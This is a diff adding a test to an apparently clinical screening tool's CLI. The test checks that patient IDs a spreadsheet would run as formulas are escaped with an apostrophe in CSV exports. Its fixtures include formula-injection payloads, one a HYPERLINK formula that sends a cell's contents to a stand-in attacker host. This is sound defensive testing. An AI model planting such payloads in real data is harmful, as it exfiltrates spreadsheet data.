@@ -119,3 +119,40 @@ def test_the_summary_table_names_verdicts_and_concepts(lang, words, monkeypatch,
         assert word in text
     for word in ("defer", "needs_data", "significant_hypertension", "blood_pressure", "true"):
         assert word not in text
+
+
+FORMULA_IDS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "  =1+1",
+    "\t=1",
+    "\uff1dSUM(A1)",
+]
+
+
+def test_patient_ids_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    """An export's patient ids are the export's to choose: in the CSV of results, one that a
+    spreadsheet would run as a formula is written with a leading apostrophe, as the audit
+    log export writes such cells; Parquet and NDJSON keep the id as it is."""
+    folder = tmp_path / "export"
+    folder.mkdir()
+    ids = [*FORMULA_IDS, "plain-1"]
+    patients = [
+        {"resourceType": "Patient", "id": pid, "gender": "female", "birthDate": "1970-01-01"}
+        for pid in ids
+    ]
+    (folder / "Patient.ndjson").write_bytes(b"\n".join(orjson.dumps(p) for p in patients))
+    # a file name with a quote is written as named
+    for name in ("results's.csv", "results.ndjson"):
+        out = tmp_path / name
+        result = runner.invoke(
+            app, ["bulk", "screen", str(folder), "--out", str(out), "--as-of", "2024-06-15"]
+        )
+        assert result.exit_code == 0, result.output
+    with open(tmp_path / "results's.csv", newline="", encoding="utf-8") as handle:
+        written = {row["patient_id"] for row in csv.DictReader(handle)}
+    assert written == {"'" + pid for pid in FORMULA_IDS} | {"plain-1"}
+    lines = (tmp_path / "results.ndjson").read_bytes().splitlines()
+    assert {orjson.loads(line)["patient_id"] for line in lines} == set(ids)
